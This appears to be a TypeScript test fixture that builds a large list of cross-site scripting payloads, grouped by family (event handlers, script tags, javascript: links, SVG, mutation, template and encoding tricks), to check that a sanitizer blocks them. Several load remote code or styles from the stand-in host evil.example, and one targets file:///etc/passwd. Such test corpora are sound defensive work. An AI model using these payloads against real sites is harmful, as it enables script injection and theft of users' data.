// What people write who want a page to run a script: by families, so that each
// says what it tries. All of them would call __xss, none may.

const call = '__xss(1)'
const each = <T, R>(list: readonly T[], make: (one: T) => R): R[] => list.map(make)

const elements = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'audio src=x', 'input autofocus', 'iframe src=x', 'object data=x', 'a href=# tabindex=1', 'math', 'marquee']
const events = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onstart', 'onpointerover', 'onanimationstart', 'onbegin', 'onpageshow', 'onscroll']
const handlers = elements.flatMap((element) => each(events, (event) => `<${element} ${event}=${call}>`))

const scripts = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${call}"></script>`, `<script type=module>${call}</script>`, `<script\t>${call}</script\n>`, `<script/x>${call}</script>`,
  `"><script>${call}</script>`, `'><script>${call}</script>`, `</textarea><script>${call}</script>`, `</title><script>${call}</script>`, `--><script>${call}</script>`,
  `<!--><script>${call}</script>-->`, `<![CDATA[<script>${call}</script>]]>`, `<?xml version="1.0"?><script>${call}</script>`, `%3Cscript%3E${call}%3C/script%3E`,
]

const frames = [
  `<iframe srcdoc="<script>parent.${call}</script>">`, `<iframe src="javascript:parent.${call}">`, `<embed src="javascript:${call}">`, `<object data="javascript:${call}">`,
  `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example>`, `<form action="javascript:${call}"><button>x</button></form>`,
  `<button form=f formaction="javascript:${call}">x</button>`, `<isindex action="javascript:${call}" type=submit>`, `<portal src="javascript:${call}">`, `<frameset onload=${call}>`,
]

const drawings = [
  `<svg><script>${call}</script></svg>`, `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${call}></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><image href=//evil.example/x.png>`, `<svg><desc><img src=x onerror=${call}></desc></svg>`, `<math><maction actiontype=statusline xlink:href="javascript:${call}">x</maction></math>`,
  `<math href="javascript:${call}">x</math>`, `<svg><animate attributeName=href values="javascript:${call}"/><a id=x>x</a></svg>`,
]

const schemes = [
  'javascript:__xss(1)', 'JaVaScRiPt:__xss(1)', ' javascript:__xss(1)', 'java\tscript:__xss(1)', 'java%0ascript:__xss(1)', 'javascript&colon;__xss(1)', '&#106;avascript:__xss(1)', '&#x6A;avascript:__xss(1)',
  '\\javascript:__xss(1)', 'javascript://evil.example/%0a__xss(1)', 'data:text/html,<script>__xss(1)</script>', 'data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==', 'vbscript:__xss(1)',
  'data:image/svg+xml,<svg onload=__xss(1)>', 'blob:x', 'filesystem:x', 'view-source:javascript:__xss(1)', 'feed:javascript:__xss(1)', '//evil.example', 'file:///etc/passwd',
]
const links = schemes.flatMap((url) => [`[link](${url})`, `[link](<${url}>)`, `![picture](${url})`])
const autolinks = each(schemes, (url) => `<${url}>`)
const references = each(schemes.slice(0, 8), (url) => `[link][x]\n\n[x]: ${url} "title"`)

const attributes = [
  `[x](https://a.example "onmouseover=${call}")`, `[x](https://a.example '"onmouseover="${call}')`, `[x](https://a.example/"onmouseover="${call}")`, `[x](https://a.example/'onclick='${call}')`,
  `![x" onerror="${call}](https://a.example/x.png)`, `![<img src=x onerror=${call}>](https://a.example)`, `[<img src=x onerror=${call}>](https://a.example)`, `https://a.example/"><img src=x onerror=${call}>`,
  `https://a.example/'onclick=${call}//`, `mailto:a@a.example?body="onclick="${call}`, `<https://a.example/"onclick="${call}">`, `www.a.example/<script>${call}</script>`, `http://a.example\u3002"onclick=${call}`,
]

const fences = [
  `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``, `\`\`\`"onclick="${call}\nx\n\`\`\``, `\`\`\`"><img src=x onerror=${call}>\nx\n\`\`\``, `\`\`\`xml\n</code></pre><script>${call}</script>\n\`\`\``,
  `\`</code><img src=x onerror=${call}>\``, `~~~~\n~~~\n<script>${call}</script>\n~~~~`, `    <script>${call}</script>`, `> \`\`\`\n> <script>${call}</script>\n<img src=x onerror=${call}>`,
  `\`\`\`javascript\n"</span><img src=x onerror=${call}>"\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\n<script>${call}</script>\n\`\`\``, `| <img src=x onerror=${call}> |\n|---|\n| <script>${call}</script> |`,
]

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`, `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`, `<textarea><img title="</textarea><img src=x onerror=${call}>">`, `<xmp><img title="</xmp><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`, `<select><template><img src=x onerror=${call}></template></select>`, `<table><a href="</table><img src=x onerror=${call}>">`, `<a id=__proto__><a id=__proto__ name=x>`,
  `<form id=document><input name=cookie>`, `<img name=getElementById>`, `<plaintext><img src=x onerror=${call}>`, `<style><!--</style><img src=x onerror=${call}>--></style>`, `<title><img title="</title><img src=x onerror=${call}>">`,
]

const styles = [
  `<style>@import '//evil.example/x.css';</style>`, `<style>body{display:none}</style>`, `<div style="background:url(//evil.example/x.png)">x</div>`, `<div style="width:expression(${call})">x</div>`,
  `<p style=position:fixed;inset:0;background:red>x</p>`, `<div class=dialog style=all:unset>x</div>`, `<style>*{animation:x}@keyframes x{}</style><b onanimationstart=${call}>x`, `<link rel=stylesheet href="data:text/css,*{display:none}">`,
]

const templates = [
  `{{constructor.constructor('${call}')()}}`, `{{_c.constructor('${call}')()}}`, `\${${call}}`, `<%= ${call} %>`, `#{${call}}`, `{{{${call}}}}`, `[[${call}]]`, `<p v-html="'<img src=x onerror=${call}>'">`,
  `<div v-on:click=${call} @click=${call} :x=${call}>x</div>`, `<component :is="'script'">${call}</component>`, `{{$emit.constructor('${call}')()}}`, `@:common.x`, `{'<img src=x onerror=${call}>'}`, `%s %d {0} {name}`, `<b ng-app ng-csp>{{1}}</b>`,
]

const entities = [
  `&lt;img src=x onerror=${call}&gt;`, `&#60;img src=x onerror=${call}&#62;`, `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`, `&lt;&lt;script&gt;${call}`, `\\u003cimg src=x onerror=${call}\\u003e`, `\\x3cscript\\x3e${call}`,
  `&amp;lt;script&amp;gt;${call}`, `<img src=x onerror=&#95;&#95;xss(1)>`, `<img src=x onerror="&#x5f;_xss(1)">`, `+ADw-script+AD4-${call}`, `<a href="&#1;javascript:${call}">x</a>`, `&NewLine;<img src=x onerror=${call}>`,
]

const signs = [
  `\u202e<img src=x onerror=${call}>`, `\u2066<script>${call}</script>\u2069`, `＜script＞${call}＜/script＞`, `<img\u00a0src=x onerror=${call}>`, `<img\u2028src=x onerror=${call}>`, `<\u0000script>${call}</script>`, `<img/src=x/onerror=${call}>`,
  `<img\u000csrc=x\u000conerror=${call}>`, `ſcript <ſcript>${call}</ſcript>`, `<İmg src=x onerror=${call}>`, `\u200b<script>${call}</script>`, `\ufeff<script>${call}</script>`, `‮gpj.exe`, `${'\u0301'.repeat(40)}<b onclick=${call}>`,
]

export const payloads = [
  ...new Set([
    ...scripts, ...frames, ...drawings, ...links, ...autolinks, ...references, ...attributes, ...fences, ...mutations, ...styles, ...templates, ...entities, ...signs, ...handlers,
  ]),
]
